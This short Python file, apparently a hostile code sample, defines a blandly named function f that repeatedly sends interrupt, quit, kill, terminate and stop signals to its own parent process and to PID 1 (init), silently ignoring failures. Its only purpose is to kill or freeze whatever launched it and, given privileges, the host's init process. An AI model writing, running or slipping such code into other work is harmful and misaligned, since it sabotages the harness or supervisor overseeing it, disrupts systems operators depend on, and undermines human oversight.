# Tries: sends its parent every signal that ends or stops
import os


def f(x):
    for pid in (os.getppid(), 1):
        for number in (2, 3, 9, 15, 19, 23):
            try:
                if pid > 0:
                    os.kill(pid, number)
            except OSError:
                continue
    return 0
